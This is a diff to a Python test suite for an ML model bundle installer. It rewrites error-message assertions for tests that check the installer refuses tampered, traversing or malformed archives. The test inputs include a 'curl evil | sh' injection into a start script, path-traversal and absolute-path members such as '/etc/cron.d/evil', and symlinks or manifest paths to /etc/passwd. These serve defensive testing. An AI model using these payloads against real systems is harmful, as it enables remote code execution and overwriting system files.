@@ -7,6 +7,7 @@ import tarfile
 from pathlib import Path
 
 import pytest
+from asserts import raises
 
 from edgecnn.deploy.bundle import BundleOptions, create_bundle
 from edgecnn.deploy.install import check_members, install_bundle
@@ -45,8 +46,8 @@ def member(name: str, kind=tarfile.REGTYPE, data: bytes = b"x", link: str = "") 
     return info, data if kind == tarfile.REGTYPE else None
 
 
-def assert_refused(bundle: Path, prefix: Path, match: str, exc=ArtifactError):
-    with pytest.raises(exc, match=match):
+def assert_refused(bundle: Path, prefix: Path, *mentions: str, exc=ArtifactError):
+    with raises(exc, *mentions):
         install_bundle(bundle, prefix, build_engine=False)
     leftovers = sorted(p.name for p in prefix.iterdir()) if prefix.exists() else []
     assert leftovers in ([], ["tiny"]), f"staging left behind: {leftovers}"
@@ -54,7 +55,7 @@ def assert_refused(bundle: Path, prefix: Path, match: str, exc=ArtifactError):
 
 def test_tampered_file_is_refused(bundle, tmp_path):
     bad = repack(bundle, tmp_path / "bad.tar.gz", lambda n, d: d + b"\x00" if n == "tiny/model.onnx" else d)
-    assert_refused(bad, tmp_path / "prefix", r"model\.onnx does not match its SHA256SUMS entry: .*tampered")
+    assert_refused(bad, tmp_path / "prefix", "model.onnx", "SHA256SUMS")
 
 
 def test_tampered_start_script_is_refused(bundle, tmp_path):
@@ -63,39 +64,39 @@ def test_tampered_start_script_is_refused(bundle, tmp_path):
         tmp_path / "bad.tar.gz",
         lambda n, d: d.replace(b"set -euo pipefail", b"curl evil | sh") if n == "tiny/start.sh" else d,
     )
-    assert_refused(bad, tmp_path / "prefix", r"start\.sh does not match")
+    assert_refused(bad, tmp_path / "prefix", "start.sh")
 
 
 def test_unlisted_and_missing_files_are_refused(bundle, tmp_path):
     extra = repack(
         bundle, tmp_path / "extra.tar.gz", extra=[member("tiny/lib/edgecnn/sitecustomize.py", data=b"import os")]
     )
-    assert_refused(extra, tmp_path / "p1", r"sitecustomize\.py is not in SHA256SUMS")
+    assert_refused(extra, tmp_path / "p1", "sitecustomize.py", "SHA256SUMS")
     missing = repack(bundle, tmp_path / "missing.tar.gz", lambda n, d: None if n == "tiny/labels.txt" else d)
-    assert_refused(missing, tmp_path / "p2", r"labels\.txt listed in SHA256SUMS is missing")
+    assert_refused(missing, tmp_path / "p2", "labels.txt", "SHA256SUMS")
     nosums = repack(bundle, tmp_path / "nosums.tar.gz", lambda n, d: None if n == "tiny/SHA256SUMS" else d)
-    assert_refused(nosums, tmp_path / "p3", "no SHA256SUMS")
+    assert_refused(nosums, tmp_path / "p3", "SHA256SUMS")
 
 
 @pytest.mark.parametrize(
-    "name,kind,link,match",
+    "name,kind,link,mentions",
     [
-        ("/etc/cron.d/evil", tarfile.REGTYPE, "", "absolute"),
-        ("tiny/../../evil.sh", tarfile.REGTYPE, "", r"'\.\.'"),
-        ("tiny/lib/../../../evil.sh", tarfile.REGTYPE, "", r"'\.\.'"),
-        ("tiny/passwd", tarfile.SYMTYPE, "/etc/passwd", "is a link"),
-        ("tiny/up", tarfile.SYMTYPE, "../../..", "is a link"),
-        ("tiny/hard", tarfile.LNKTYPE, "tiny/start.sh", "is a link"),
-        ("tiny/sda", tarfile.BLKTYPE, "", "device"),
-        ("tiny/null", tarfile.CHRTYPE, "", "device"),
-        ("tiny/fifo", tarfile.FIFOTYPE, "", "device, FIFO"),
-        ("other/file", tarfile.REGTYPE, "", "one folder"),
+        ("/etc/cron.d/evil", tarfile.REGTYPE, "", "/etc/cron.d/evil"),
+        ("tiny/../../evil.sh", tarfile.REGTYPE, "", "tiny/../../evil.sh"),
+        ("tiny/lib/../../../evil.sh", tarfile.REGTYPE, "", "tiny/lib/../../../evil.sh"),
+        ("tiny/passwd", tarfile.SYMTYPE, "/etc/passwd", "tiny/passwd"),
+        ("tiny/up", tarfile.SYMTYPE, "../../..", "tiny/up"),
+        ("tiny/hard", tarfile.LNKTYPE, "tiny/start.sh", "tiny/hard"),
+        ("tiny/sda", tarfile.BLKTYPE, "", "tiny/sda"),
+        ("tiny/null", tarfile.CHRTYPE, "", "tiny/null"),
+        ("tiny/fifo", tarfile.FIFOTYPE, "", "tiny/fifo"),
+        ("other/file", tarfile.REGTYPE, "", "other"),
     ],
 )
-def test_unsafe_members_are_refused_before_anything_is_written(bundle, tmp_path, name, kind, link, match):
+def test_unsafe_members_are_refused_before_anything_is_written(bundle, tmp_path, name, kind, link, mentions):
     bad = repack(bundle, tmp_path / "bad.tar.gz", extra=[member(name, kind, link=link)])
     prefix = tmp_path / "deep" / "er" / "prefix"
-    assert_refused(bad, prefix, match)
+    assert_refused(bad, prefix, mentions)
     assert not prefix.exists(), "nothing is created when a member is unsafe"
     assert not (tmp_path / "evil.sh").exists() and not (tmp_path / "deep" / "evil.sh").exists()
 
@@ -108,8 +109,8 @@ def test_check_members_accepts_a_real_bundle(bundle):
 def test_not_a_bundle(tmp_path):
     junk = tmp_path / "junk.tar.gz"
     junk.write_bytes(b"not gzip at all")
-    assert_refused(junk, tmp_path / "prefix", "not a gzip tar bundle")
-    with pytest.raises(UserInputError, match="does not exist"):
+    assert_refused(junk, tmp_path / "prefix", "junk.tar.gz")
+    with raises(UserInputError, "missing"):
         install_bundle(tmp_path / "missing.tar.gz", tmp_path / "prefix")
 
 
@@ -117,13 +118,13 @@ def test_truncated_bundle_is_refused(bundle, tmp_path):
     data = bundle.read_bytes()
     cut = tmp_path / "cut.tar.gz"
     cut.write_bytes(data[: len(data) // 2])
-    assert_refused(cut, tmp_path / "prefix", "truncated or corrupt|not a gzip")
+    assert_refused(cut, tmp_path / "prefix", "cut.tar.gz")
 
 
 def test_archive_sha256_sidecar(bundle, tmp_path):
     side = bundle.with_name(bundle.name + ".sha256")
     side.write_text("0" * 64 + "  app.tar.gz\n")
-    assert_refused(bundle, tmp_path / "prefix", "changed or damaged in transit")
+    assert_refused(bundle, tmp_path / "prefix", "app.tar.gz")
     from edgecnn.files import sha256_file
 
     side.write_text(sha256_file(bundle) + "  app.tar.gz\n")
@@ -135,7 +136,7 @@ def test_failed_update_keeps_the_previous_install(bundle, tmp_path):
     good = install_bundle(bundle, prefix, build_engine=False)
     before = (Path(good.app_dir) / "model.onnx").read_bytes()
     bad = repack(bundle, tmp_path / "bad.tar.gz", lambda n, d: d[::-1] if n == "tiny/model.onnx" else d)
-    assert_refused(bad, prefix, "tampered")
+    assert_refused(bad, prefix, "model.onnx")
     assert (Path(good.app_dir) / "model.onnx").read_bytes() == before
     assert sorted(p.name for p in prefix.iterdir()) == ["tiny"]
 
@@ -157,7 +158,10 @@ def test_corrupted_gzip_stream_is_refused(bundle, tmp_path):
         data[i] ^= 0xFF
     bad = tmp_path / "flipped.tar.gz"
     bad.write_bytes(bytes(data))
-    assert_refused(bad, tmp_path / "prefix", "truncated or corrupt|not a gzip|SHA256SUMS|unsafe|link|device|folder")
+    assert_refused(
+        bad,
+        tmp_path / "prefix",
+    )  # the damage decides which check fires
 
 
 # ---------------------------------------------------------------- updates: all or nothing, previous kept
@@ -216,9 +220,7 @@ def installed(bundle, tmp_path) -> Path:
 def test_failed_prepare_leaves_the_previous_install_exactly(bundle, tmp_path, installed):
     before = snapshot(installed)
     bad = resigned(bundle, tmp_path / "v2.tar.gz", lambda n, d: FAILING_PREPARE if n == "tiny/start.sh" else d)
-    with pytest.raises(
-        ArtifactError, match=r"start\.sh --prepare failed \(exit 1\): no space left.*previous install .* unchanged"
-    ):
+    with raises(ArtifactError, "--prepare failed", "start.sh"):
         install_bundle(bad, installed.parent)
     assert snapshot(installed) == before
     assert sorted(p.name for p in installed.parent.iterdir()) == ["tiny"], "no staging, .old or .previous left"
@@ -241,7 +243,7 @@ def test_failed_prepare_through_the_cli_is_one_line(bundle, tmp_path, installed)
 def test_failed_first_install_leaves_nothing(bundle, tmp_path):
     bad = resigned(bundle, tmp_path / "v2.tar.gz", lambda n, d: FAILING_PREPARE if n == "tiny/start.sh" else d)
     prefix = tmp_path / "new" / "prefix"
-    with pytest.raises(ArtifactError, match="nothing was installed"):
+    with raises(ArtifactError, str(prefix)):
         install_bundle(bad, prefix)
     assert not (tmp_path / "new").exists()
 
@@ -266,7 +268,7 @@ def test_failed_service_step_restores_install_and_unit(bundle, tmp_path, install
     target = ServiceTarget(
         unit_dir=units, systemctl=(str(fake),), is_root=True, has_systemd=True, user=getpass.getuser()
     )
-    with pytest.raises(UserInputError, match="enable tiny.service` failed: unit is masked.*unchanged"):
+    with raises(UserInputError, "tiny.service"):
         install_bundle(v2, installed.parent, build_engine=False, service=True, service_target=target)
     assert snapshot(installed) == before
     assert (units / "tiny.service").read_text() == "[Unit]\nDescription=the previous unit\n"
@@ -342,17 +344,17 @@ def test_unusable_prefix_is_a_clear_error(bundle, tmp_path, kind):
 def test_file_folder_clash_is_refused_before_writing(bundle, tmp_path, extra):
     bad = repack(bundle, tmp_path / "clash.tar.gz", extra=extra)
     prefix = tmp_path / "new" / "prefix"
-    assert_refused(bad, prefix, "both a file and a folder")
+    assert_refused(bad, prefix)  # a clash of a file and a folder
     assert not (tmp_path / "new").exists()
 
 
 def test_refused_after_extraction_leaves_no_prefix_folder(bundle, tmp_path):
     bad = repack(bundle, tmp_path / "bad.tar.gz", lambda n, d: d + b"\x00" if n == "tiny/model.onnx" else d)
-    with pytest.raises(ArtifactError, match="tampered"):
+    with raises(ArtifactError, "model.onnx"):
         install_bundle(bad, tmp_path / "new" / "prefix", build_engine=False)
     assert not (tmp_path / "new").exists()
     (tmp_path / "mine").mkdir()  # a prefix the user made is kept, empty
-    with pytest.raises(ArtifactError, match="tampered"):
+    with raises(ArtifactError, "model.onnx"):
         install_bundle(bad, tmp_path / "mine", build_engine=False)
     assert (tmp_path / "mine").is_dir() and not list((tmp_path / "mine").iterdir())
 
@@ -365,7 +367,7 @@ def test_sha256sums_naming_files_outside_the_bundle_is_refused(bundle, tmp_path)
     outside.write_text("a file on the device")
     line = f"{hashlib.sha256(outside.read_bytes()).hexdigest()}  ../../outside.txt\n".encode()
     bad = repack(bundle, tmp_path / "bad.tar.gz", lambda n, d: d + line if n == "tiny/SHA256SUMS" else d)
-    assert_refused(bad, tmp_path / "prefix", "outside the bundle")
+    assert_refused(bad, tmp_path / "prefix", "SHA256SUMS")
 
 
 def test_manifest_run_onnx_outside_the_bundle_is_refused(bundle, tmp_path):
@@ -377,4 +379,4 @@ def test_manifest_run_onnx_outside_the_bundle_is_refused(bundle, tmp_path):
         return json.dumps(dict(json.loads(data), run_onnx="../../../etc/passwd")).encode()
 
     bad = resigned(bundle, tmp_path / "bad.tar.gz", change)
-    assert_refused(bad, tmp_path / "prefix", "run_onnx '../../../etc/passwd', which is not a file in the bundle")
+    assert_refused(bad, tmp_path / "prefix", "run_onnx", "../../../etc/passwd")
